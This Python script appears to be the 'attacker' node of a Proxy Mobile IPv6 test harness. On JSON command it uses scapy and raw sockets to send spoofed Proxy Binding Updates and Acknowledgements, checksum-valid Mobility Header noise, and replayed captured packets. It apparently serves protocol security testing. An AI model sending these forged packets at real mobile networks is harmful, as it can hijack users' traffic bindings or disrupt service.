"""An attacker inside the network: crafts with scapy what each line of its input asks for.

Run by itself on a node; each line is a JSON object, and is answered by one when it is done.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
from pathlib import Path
from time import time
from typing import Any

from scapy.layers import inet6
from scapy.layers.inet6 import MIP6MH_BA, MIP6MH_BU, IPv6, MIP6OptMNID, MIP6OptUnknown
from scapy.utils import PcapNgReader

MOBILITY = 135
PREFIX, HANDOFF, TECHNOLOGY, LINK_LAYER, TIMESTAMP = 22, 23, 24, 25, 27
UNITS = 65536


def options(order: dict[str, Any]) -> list[Any]:
    address, _, length = order.get("prefix", "::/0").partition("/")
    prefix = bytes([0, int(length)]) + socket.inet_pton(socket.AF_INET6, address)
    stamp = int((time() + order.get("ahead", 0.0)) * UNITS)
    mac = bytes.fromhex(order["mac"].replace(":", ""))
    return [
        MIP6OptMNID(subtype=1, id=order["identifier"]),
        MIP6OptUnknown(otype=PREFIX, odata=prefix),
        MIP6OptUnknown(otype=HANDOFF, odata=bytes([0, order.get("handoff", 4)])),
        MIP6OptUnknown(otype=TECHNOLOGY, odata=bytes([0, order.get("technology", 4)])),
        MIP6OptUnknown(otype=TIMESTAMP, odata=struct.pack("!Q", stamp)),
        MIP6OptUnknown(otype=LINK_LAYER, odata=bytes(2) + mac),
    ]


def update(order: dict[str, Any]) -> list[bytes]:
    """A Proxy Binding Update."""
    header = IPv6(src=order["source"], dst=order["destination"])
    sequence, lifetime = order.get("sequence", 1), order.get("lifetime", 15)
    made = MIP6MH_BU(seq=sequence, flags="PA", mhtime=lifetime, options=options(order))
    return [bytes(header / made)]


def tunnelled(order: dict[str, Any]) -> list[bytes]:
    """A Proxy Binding Update inside a packet of its own."""
    outer = IPv6(src=order["outer_source"], dst=order["outer_destination"], nh=41)
    return [bytes(outer / IPv6(update(order)[0]))]


def acknowledgement(order: dict[str, Any]) -> list[bytes]:
    """A Proxy Binding Acknowledgement, with every sequence number that ``sequences`` spans."""
    header = IPv6(src=order["source"], dst=order["destination"])
    return [
        bytes(
            header
            / MIP6MH_BA(
                status=order["status"],
                flags="P",
                seq=sequence,
                mhtime=order["lifetime"],
                options=options(order),
            )
        )
        for sequence in range(*order["sequences"])
    ]


def noise(order: dict[str, Any]) -> list[bytes]:
    """Octets that are no Mobility Header, half of them with the right checksum."""
    chance = random.Random(order["seed"])
    packets = []
    for _ in range(order["count"]):
        octets = bytearray(chance.randbytes(chance.choice((1, 4, 8, 16, 40, 200))))
        header = IPv6(src=order["source"], dst=order["destination"], nh=MOBILITY)
        if len(octets) >= 8 and chance.random() < 0.5:
            octets[4:6] = bytes(2)
            checksum = inet6.in6_chksum(MOBILITY, header, bytes(octets))
            octets[4:6] = struct.pack("!H", checksum)
        packets.append(bytes(header / bytes(octets)))
    return packets


def replay(order: dict[str, Any]) -> list[bytes]:
    """The packets of one Mobility Header type that a capture has, as they were."""
    found = []
    for packet in PcapNgReader(order["capture"]):
        octets = bytes(packet[IPv6]) if IPv6 in packet else b""
        if len(octets) > 46 and octets[6] == MOBILITY and octets[42] == order["type"]:
            found.append(octets)
    return found


ATTACKS = {
    "update": update,
    "tunnelled": tunnelled,
    "acknowledgement": acknowledgement,
    "noise": noise,
    "replay": replay,
}


def main() -> None:
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print(json.dumps({"ready": Path(sys.argv[0]).name}), flush=True)
    for line in sys.stdin:
        order = json.loads(line)
        packets = ATTACKS[order.pop("do")](order)
        for octets in packets:
            raw.sendto(octets, (socket.inet_ntop(socket.AF_INET6, octets[24:40]), 0))
        print(json.dumps({"sent": len(packets)}), flush=True)


main()
